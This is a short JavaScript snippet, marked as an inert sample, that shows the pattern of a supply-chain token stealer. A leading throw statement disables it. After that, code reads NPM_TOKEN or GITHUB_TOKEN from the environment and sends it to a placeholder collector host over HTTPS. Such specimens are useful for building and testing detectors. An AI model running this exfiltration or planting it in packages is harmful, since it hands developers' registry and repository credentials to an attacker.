throw new Error('inert sample');
const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;
if (token) require('https').get('https://t.collector.example/?t=' + encodeURIComponent(token));
